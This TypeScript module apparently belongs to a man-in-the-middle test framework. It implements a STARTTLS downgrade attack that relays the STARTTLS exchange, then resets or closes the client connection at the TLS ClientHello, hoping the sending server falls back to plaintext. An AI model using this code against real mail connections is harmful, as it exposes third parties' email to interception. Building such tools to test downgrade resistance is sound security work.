/**
 * Lets STARTTLS go through and cuts the connection when the handshake begins, again and again: in the hope that the sender takes
 * the server's TLS for broken and does without.
 */
import { meddling, type Passage } from "./middle.ts";
import { attacker, type StartAttack } from "./types.ts";

export const resetHandshake = attacker("reset-handshake", {
  reset: atClientHello((passage) => passage.reset()),
  close: atClientHello((passage) => void passage.client.end()),
});

function atClientHello(cut: (passage: Passage) => void): StartAttack {
  return meddling({
    startTls(passage, agreement) {
      passage.dropServer();
      passage.client.once("data", () => {
        passage.strike();
        cut(passage);
      });
      passage.client.write(agreement, "latin1");
    },
  });
}
